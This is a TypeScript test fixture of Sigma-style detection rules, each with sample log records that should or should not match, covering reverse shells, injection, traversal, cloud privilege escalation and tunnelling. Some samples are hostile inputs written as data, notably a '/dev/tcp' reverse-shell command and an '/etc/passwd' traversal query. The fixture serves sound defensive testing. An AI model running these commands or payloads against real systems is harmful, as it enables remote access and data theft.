import type { ExampleRule } from './ExampleRule.ts';

/** Rules on Linux, networks, clouds and applications, written for these tests. */
export const OTHER_RULES: readonly ExampleRule[] = [
  {
    uses: 're, with case',
    yaml: String.raw`
title: Reverse Shell Over /dev/tcp
logsource: { category: process_creation, product: linux }
detection:
  selection:
    CommandLine|re: '(bash|sh)\s+-i.*/dev/(tcp|udp)/[\w.]+/\d{1,5}'
  condition: selection
level: critical
`,
    hits: [{ CommandLine: 'x; bash -i >& /dev/tcp/10.1.2.3/4444 0>&1' }],
    misses: [{ CommandLine: 'BASH -I >& /DEV/TCP/10.1.2.3/4444' }, { CommandLine: 'bash -i' }],
  },
  {
    uses: 're with i, m and s',
    yaml: String.raw`
title: Template Injection In A Request Body
logsource: { category: webserver }
detection:
  insensitive: { body|re|i: '\{\{\s*config' }
  lines: { body|re|m: '^id=\d+$' }
  across: { body|re|i|s: 'union.+select' }
  condition: insensitive or (lines and across)
level: high
`,
    hits: [{ body: 'x={{ CONFIG }}' }, { body: 'a\nid=7\nUNION\nall\nSELECT' }],
    misses: [{ body: 'id=7' }, { body: 'union\nselect' }, { body: 'x\nid=7a\nunion select' }],
  },
  {
    uses: 'cidr, both families',
    yaml: String.raw`
title: Outbound Connection To A Foreign Network
logsource: { category: firewall }
detection:
  selection: { action: allow }
  filter_private:
    dst_ip|cidr:
      - 10.0.0.0/8
      - 192.168.0.0/16
      - fd00::/8
  condition: selection and not filter_private
level: low
`,
    hits: [
      { action: 'Allow', dst_ip: '8.8.8.8' },
      { action: 'allow', dst_ip: '2001:db8::1' },
      { action: 'allow', dst_ip: 'unknown' },
    ],
    misses: [
      { action: 'allow', dst_ip: '10.200.3.4' },
      { action: 'allow', dst_ip: 'fd12:3456::1' },
      { action: 'deny', dst_ip: '8.8.8.8' },
    ],
  },
  {
    uses: 'gt, gte, lt and lte',
    yaml: String.raw`
title: Large Upload At An Odd Rate
logsource: { category: proxy }
detection:
  size: { cs-bytes|gt: 1000000 }
  status: { sc-status|gte: 200, sc-status|lt: 300 }
  share: { ratio|lte: 0.25 }
  condition: size and status and share
level: medium
`,
    hits: [{ 'cs-bytes': 1_000_001, 'sc-status': 200, ratio: 0.25 }],
    misses: [
      { 'cs-bytes': 1_000_000, 'sc-status': 200, ratio: 0.1 },
      { 'cs-bytes': 2_000_000, 'sc-status': 300, ratio: 0.1 },
      { 'cs-bytes': 2_000_000, 'sc-status': 299, ratio: 0.26 },
      { 'cs-bytes': '2000000', 'sc-status': 200, ratio: 0.1 },
    ],
  },
  {
    uses: 'nested fields and flow style',
    yaml: String.raw`
title: Role Given To An External Account
logsource: { product: aws, service: cloudtrail }
detection:
  selection:
    eventSource: iam.amazonaws.com
    eventName: [AttachRolePolicy, AttachUserPolicy]
    requestParameters.policyArn|endswith: /AdministratorAccess
  filter: { userIdentity.sessionContext.attributes.mfaAuthenticated: 'true' }
  condition: selection and not filter
level: high
tags: [attack.privilege_escalation, attack.t1098]
`,
    hits: [
      {
        ...{ eventSource: 'IAM.amazonaws.com', eventName: 'attachrolepolicy' },
        requestParameters: { policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' },
      },
    ],
    misses: [
      {
        ...{ eventSource: 'iam.amazonaws.com', eventName: 'AttachRolePolicy' },
        requestParameters: { policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' },
        userIdentity: { sessionContext: { attributes: { mfaAuthenticated: true } } },
      },
      { eventSource: 'iam.amazonaws.com', eventName: 'AttachRolePolicy' },
    ],
  },
  {
    uses: 'all of them and an identifier with an underscore',
    yaml: String.raw`
title: Cron File Written By A Web Server
logsource: { category: file_event, product: linux }
detection:
  _unused: { TargetFilename: /tmp/x }
  path: { TargetFilename|startswith: [/etc/cron, /var/spool/cron] }
  writer: { Image|endswith: [/nginx, /apache2, /php-fpm] }
  condition: all of them
level: high
`,
    hits: [{ TargetFilename: '/etc/cron.d/x', Image: '/usr/sbin/nginx' }],
    misses: [
      { TargetFilename: '/etc/cron.d/x', Image: '/usr/bin/vi' },
      { Image: '/usr/sbin/nginx' },
    ],
  },
  {
    uses: 'a single asterisk',
    yaml: String.raw`
title: Any Use Of A Preload Variable
logsource: { product: linux, service: auditd }
detection:
  selection: { type: EXECVE, env.LD_PRELOAD: '*' }
  condition: selection
level: medium
`,
    hits: [
      { type: 'EXECVE', env: { LD_PRELOAD: '/tmp/a.so' } },
      { type: 'execve', env: { LD_PRELOAD: '' } },
    ],
    misses: [
      { type: 'EXECVE', env: {} },
      { type: 'EXECVE', env: { LD_PRELOAD: null } },
    ],
  },
  {
    uses: 'characters that mean something in expressions',
    yaml: String.raw`
title: Traversal In A Query
logsource: { category: webserver }
detection:
  selection: { cs-uri-query|contains: ['..%2f?etc', '(a|b)+[c]{2}?^$', 'x.y*z'] }
  condition: selection
level: medium
`,
    hits: [
      { 'cs-uri-query': 'f=..%2F/etc/passwd' },
      { 'cs-uri-query': '1(a|b)+[c]{2}.^$2' },
      { 'cs-uri-query': 'x.y--Z' },
    ],
    misses: [
      { 'cs-uri-query': 'f=..%2Fetc' },
      { 'cs-uri-query': 'aacc' },
      { 'cs-uri-query': 'xay1z' },
    ],
  },
  {
    uses: 'booleans and texts that look like numbers',
    yaml: String.raw`
title: Console Login Without A Second Factor
logsource: { product: okta }
detection:
  selection: { mfa: false, risk: '10', realm: 'true' }
  condition: selection
level: medium
`,
    hits: [
      { mfa: false, risk: 10, realm: 'True' },
      { mfa: 'False', risk: '10', realm: true },
    ],
    misses: [
      { mfa: 0, risk: 10, realm: true },
      { mfa: false, risk: '10.0', realm: true },
      { mfa: false, risk: 10, realm: 'yes' },
    ],
  },
  {
    uses: 'all with equality over wildcards',
    yaml: String.raw`
title: Kernel Module With Two Marks
logsource: { product: linux, service: syslog }
detection:
  selection:
    message|all: ['*module*', '*tainted*', 'kernel:*']
  condition: selection
level: high
`,
    hits: [{ message: 'Kernel: loading MODULE x: tainted' }],
    misses: [{ message: 'kernel: loading module x' }, { message: 'x kernel: module tainted' }],
  },
  {
    uses: 'not over a group, with three kinds of precedence',
    yaml: String.raw`
title: Precedence
logsource: { product: application }
detection:
  a: { a: 1 }
  b: { b: 1 }
  c: { c: 1 }
  d: { d: 1 }
  condition: a or b and not (c or d) and not not b
level: low
`,
    hits: [{ a: 1, c: 1 }, { b: 1 }],
    misses: [{ b: 1, c: 1 }, { b: 1, d: 1 }, { c: 1 }, {}],
  },
  {
    uses: 'any of, and names with digits and hyphens',
    yaml: String.raw`
title: Tunnel Tools
logsource: { category: dns }
detection:
  sel-1: { query|endswith: [.ngrok.io, .trycloudflare.com] }
  sel-2: { query|re: '^[a-z0-9]{32}\.' }
  other: { query: localhost }
  condition: any of sel-*
level: medium
`,
    hits: [{ query: 'a.NGROK.io' }, { query: 'abcdefghijklmnopqrstuvwxyz012345.x' }],
    misses: [{ query: 'localhost' }, { query: 'ngrok.io.example' }],
  },
];
